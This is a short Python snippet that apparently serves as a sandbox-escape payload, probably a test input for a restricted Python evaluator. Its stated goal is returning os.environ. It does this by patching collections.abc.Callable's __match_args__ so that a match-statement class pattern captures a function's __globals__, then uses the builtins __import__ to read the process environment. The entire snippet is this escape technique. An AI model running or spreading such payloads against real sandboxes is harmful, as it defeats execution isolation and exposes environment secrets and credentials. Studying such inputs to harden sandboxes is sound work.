# goal: return os.environ via collections.abc positional class pattern capturing __globals__
import collections.abc
class C(collections.abc.Callable):
    __match_args__ = ("__globals__",)
    def __call__(self):
        pass
def victim():
    pass
C.register(type(victim)) if hasattr(C, "register") else None
collections.abc.Callable.__match_args__ = ("__globals__",)
match victim:
    case collections.abc.Callable(g):
        return repr(g["__builtins__"]["__import__"]("os").environ)
return None
